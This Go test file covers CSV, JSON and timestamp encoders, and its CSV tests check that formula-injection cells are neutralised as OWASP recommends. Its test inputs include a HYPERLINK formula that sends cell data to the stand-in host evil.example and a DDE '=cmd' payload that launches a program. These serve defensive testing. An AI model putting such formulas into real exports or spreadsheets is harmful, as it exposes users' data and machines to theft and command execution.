package api

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"math/rand/v2"
	"strings"
	"testing"
	"time"
	"unicode/utf8"
)

// FuzzAppendCSVField checks the CSV encoding against its definition: each
// field neutralised as OWASP recommends (neutraliseCSV, written plainly
// here), then written by encoding/csv's Writer with UseCRLF, which the
// export used to write with. It also checks that encoding/csv's Reader
// reads no cell that a spreadsheet would take for a formula.
func FuzzAppendCSVField(f *testing.F) {
	for _, s := range []string{``, `a`, `a,b`, `"`, "a\nb", "a\r\nb", "\rx", ` x`, "\tx", "\u00a0x", "\u2028", `\.`, `\.x`, "\xff", "x ",
		`=HYPERLINK("http://x","y")`, "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\r\n=1", "=a,b", `="`, "'=1", "-", "=", " =1", "a\n=1"} {
		f.Add(s, "second")
		f.Add("first", s)
	}
	f.Fuzz(func(t *testing.T, a, b string) {
		// Both separators the export writes with.
		for _, sep := range []byte{',', ';'} {
			var want bytes.Buffer
			w := csv.NewWriter(&want)
			w.UseCRLF = true
			w.Comma = rune(sep)
			if err := w.Write([]string{neutraliseCSV(a), neutraliseCSV(b)}); err != nil {
				t.Fatal(err)
			}
			w.Flush()
			got := appendCSVField(nil, a, sep)
			got = append(got, sep)
			got = appendCSVField(got, []byte(b), sep)
			got = append(got, '\r', '\n')
			if string(got) != want.String() {
				t.Fatalf("fields %q, %q with %q: got %q, want %q", a, b, sep, got, want.String())
			}
			r := csv.NewReader(bytes.NewReader(got))
			r.Comma = rune(sep)
			r.FieldsPerRecord = 2
			cells, err := r.Read()
			if err != nil {
				t.Fatalf("fields %q, %q: wrote %q, which encoding/csv cannot read: %v", a, b, got, err)
			}
			for _, c := range cells {
				if c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) {
					t.Fatalf("fields %q, %q: cell %q reads as a formula", a, b, c)
				}
			}
		}
	})
}

// neutraliseCSV is OWASP's defence against CSV injection for one cell: a
// single quote before a value starting with '=', '+', '-', '@', a tab or a
// carriage return.
func neutraliseCSV(s string) string {
	for _, p := range []string{"=", "+", "-", "@", "\t", "\r"} {
		if strings.HasPrefix(s, p) {
			return "'" + s
		}
	}
	return s
}

// TestAppendCSVFieldFormulas spells out what a spreadsheet gets for the
// cells of an attack: text, never a formula.
func TestAppendCSVFieldFormulas(t *testing.T) {
	for in, want := range map[string]string{
		`=HYPERLINK("http://evil.example/?"&A1,"Open")`: `"'=HYPERLINK(""http://evil.example/?""&A1,""Open"")"`,
		"=1+1":               "'=1+1",
		"+1":                 "'+1",
		"-2":                 "'-2",
		"@SUM(A1:A9)":        "'@SUM(A1:A9)",
		"\t=1":               "'\t=1",
		"\r=1":               `"'=1"`,
		"=cmd|' /C calc'!A0": "'=cmd|' /C calc'!A0",
		"a=1":                "a=1",
		"x-1":                "x-1",
		"'=1":                "'=1",
		"":                   "",
		" =1":                `" =1"`,
	} {
		if got := string(appendCSVField(nil, in, ',')); got != want {
			t.Errorf("cell %q: got %q, want %q", in, got, want)
		}
	}
}

// FuzzAppendJSONString checks that a string and its bytes are written
// alike, exactly as before, and as valid JSON that reads back as encoding/json reads the
// string.
func FuzzAppendJSONString(f *testing.F) {
	for _, s := range []string{``, `a`, `"\`, "\x00\x1f\b\f\n\r\t", "\u2028\u2029", "\xff", "é\xe2\x80", "Замок <&>", "\xd0", "\xd0x", "\xc1\xbf", "\xc2\x80", "\xdf\xbf\xdf\xc0"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		got := appendJSONString(nil, s)
		if gotBytes := appendJSONString(nil, []byte(s)); !bytes.Equal(got, gotBytes) {
			t.Fatalf("%q: string gives %q, bytes give %q", s, got, gotBytes)
		}
		if want := oldAppendJSONString(nil, s); !bytes.Equal(got, want) {
			t.Fatalf("%q: got %q, the encoder before gave %q", s, got, want)
		}
		var back, want string
		if err := json.Unmarshal(got, &back); err != nil {
			t.Fatalf("%q: wrote %q, which is not a JSON string: %v", s, got, err)
		}
		enc, _ := json.Marshal(s)
		_ = json.Unmarshal(enc, &want)
		if back != want {
			t.Fatalf("%q: reads back as %q, want %q", s, back, want)
		}
	})
}

// TestAppendTime checks appendTime against time.Time.AppendFormat, which it
// replaces, in zones with odd offsets and at the ends of the years it
// writes by hand.
func TestAppendTime(t *testing.T) {
	var zones []*time.Location
	for _, name := range []string{"UTC", "Europe/Kyiv", "America/St_Johns", "Asia/Kathmandu", "Pacific/Chatham", "America/Sao_Paulo", "Europe/Dublin", "Africa/Monrovia", "Asia/Kolkata", "Pacific/Kiritimati", "Etc/GMT+12"} {
		loc, err := time.LoadLocation(name)
		if err != nil {
			t.Fatal(err)
		}
		zones = append(zones, loc)
	}
	zones = append(zones, time.FixedZone("odd", -(3*3600+30*60+17)), time.FixedZone("tiny", 30), time.FixedZone("negtiny", -30), time.FixedZone("huge", 99*3600+59*60), time.FixedZone("over", 100*3600))
	times := []time.Time{
		time.Date(0, 1, 1, 0, 0, 0, 0, time.UTC), time.Date(-1, 12, 31, 23, 59, 59, 999e6, time.UTC),
		time.Date(9999, 12, 31, 23, 59, 59, 999e6, time.UTC), time.Date(10000, 1, 1, 0, 0, 0, 0, time.UTC),
		time.Date(1, 1, 1, 0, 0, 0, 0, time.UTC), time.Date(1900, 1, 1, 0, 0, 0, 0, time.UTC),
		time.UnixMilli(1714557600123), time.Time{},
	}
	r := rand.New(rand.NewPCG(1, 2))
	for range 5000 {
		times = append(times, time.UnixMilli(r.Int64N(253402300799999+62135596800000)-62135596800000))
	}
	for _, loc := range zones {
		for _, tm := range times {
			want := "x" + tm.In(loc).Format(timeLayout)
			if got := string(appendTime([]byte("x"), tm, loc)); got != want {
				t.Fatalf("%v in %v: got %q, want %q", tm, loc, got, want)
			}
		}
	}
}

// oldAppendJSONString is appendJSONString as it was before it took byte
// slices and had a fast path, kept as the oracle FuzzAppendJSONString
// checks the output against byte for byte.
func oldAppendJSONString(buf []byte, s string) []byte {
	buf = append(buf, '"')
	start := 0
	for i := 0; i < len(s); {
		c := s[i]
		if c < utf8.RuneSelf {
			if c >= 0x20 && c != '"' && c != '\\' {
				i++
				continue
			}
			buf = append(buf, s[start:i]...)
			switch c {
			case '"', '\\':
				buf = append(buf, '\\', c)
			case '\n':
				buf = append(buf, '\\', 'n')
			case '\r':
				buf = append(buf, '\\', 'r')
			case '\t':
				buf = append(buf, '\\', 't')
			default:
				buf = append(buf, '\\', 'u', '0', '0', hexDigits[c>>4], hexDigits[c&0xf])
			}
			i++
			start = i
			continue
		}
		r, size := utf8.DecodeRuneInString(s[i:])
		if r == utf8.RuneError && size == 1 {
			buf = append(buf, s[start:i]...)
			buf = append(buf, `\ufffd`...)
			i += size
			start = i
			continue
		}
		if r == '\u2028' || r == '\u2029' {
			buf = append(buf, s[start:i]...)
			buf = append(buf, '\\', 'u', '2', '0', '2', hexDigits[r&0xf])
			i += size
			start = i
			continue
		}
		i += size
	}
	buf = append(buf, s[start:]...)
	return append(buf, '"')
}
